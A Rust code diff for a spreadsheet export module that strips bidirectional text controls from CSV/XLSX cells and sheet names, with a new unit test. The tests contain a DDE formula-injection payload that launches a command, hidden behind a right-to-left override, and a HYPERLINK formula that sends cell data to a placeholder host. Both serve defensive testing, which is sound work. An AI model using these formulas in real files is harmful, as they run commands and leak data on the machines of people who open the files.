@@ -31,7 +31,16 @@ fn headers(lang: Lang) -> [&'static str; 13] {
 }
 
 /// The cells of one row, as text people read.
+///
+/// Each cell is cleaned of direction overrides and unpaired embeddings and isolates
+/// (`balance_bidi`): a title stored before input was cleaned, or imported, could otherwise
+/// reverse the cells after it where the row is read as one line of text (a CSV in an editor or
+/// a preview). Cleaning comes before [`inert`], so a control cannot hide a formula sign.
 fn cells(lang: Lang, r: &ExportRow) -> [String; 13] {
+    raw_cells(lang, r).map(|c| hamafza_persian::controls::balance_bidi(&c))
+}
+
+fn raw_cells(lang: Lang, r: &ExportRow) -> [String; 13] {
     let date =
         jalali::from_timestamp(jiff::Timestamp::from_second(r.created_at).unwrap_or_default())
             .to_string();
@@ -75,7 +84,7 @@ pub fn xlsx(lang: Lang, sheet_name: &str, rows: &[ExportRow]) -> Result<Vec<u8>,
     let mut book = Workbook::new();
     let sheet = book.add_worksheet();
     // Sheet names are at most 31 characters and exclude a few symbols.
-    let name: String = sheet_name
+    let name: String = hamafza_persian::controls::balance_bidi(sheet_name)
         .chars()
         .filter(|c| !"[]:*?/\\".contains(*c))
         .take(31)
@@ -190,6 +199,26 @@ mod tests {
             benefits: "－1".into(),
             resources: String::new(),
         }
+    }
+
+    #[test]
+    fn cells_lose_overrides_and_unpaired_controls_before_formulas_are_neutralised() {
+        let mut r = row("\u{202E}=cmd|' /C calc'!A0", "a\u{2067}b");
+        r.author = Some("\u{202B}سارا".into());
+        r.unit = Some("\u{2068}اداره\u{2069}".into());
+        let out = String::from_utf8(csv(Lang::Fa, &[r]).unwrap()).unwrap();
+        let line = out.lines().nth(1).unwrap();
+        assert!(
+            !line.contains(['\u{202E}', '\u{202B}', '\u{2067}']),
+            "{line:?}"
+        );
+        assert!(line.contains("\"'=cmd|"), "{line}");
+        assert!(line.contains("\"ab\""), "{line}");
+        assert!(line.contains("\"سارا\""), "{line}");
+        assert!(
+            line.contains("\"\u{2068}اداره\u{2069}\""),
+            "paired isolate kept: {line}"
+        );
     }
 
     const HYPERLINK: &str = r#"=HYPERLINK("http://example.invalid/?d="&A1,"more")"#;
